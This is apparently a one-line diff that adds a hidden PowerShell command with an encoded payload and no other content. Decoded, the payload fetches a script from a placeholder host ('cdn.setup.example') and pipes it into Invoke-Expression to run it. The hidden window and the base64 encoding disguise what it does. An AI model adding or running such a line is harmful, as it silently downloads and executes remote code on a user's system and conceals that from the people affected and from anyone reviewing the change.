@@ -1,0 +1,1 @@
+powershell -NoProfile -WindowStyle Hidden -EncodedCommand aQByAG0AIABoAHQAdABwAHMAOgAvAC8AYwBkAG4ALgBzAGUAdAB1AHAALgBlAHgAYQBtAHAAbABlAC8AYQAgAHwAIABpAGUAeAA=
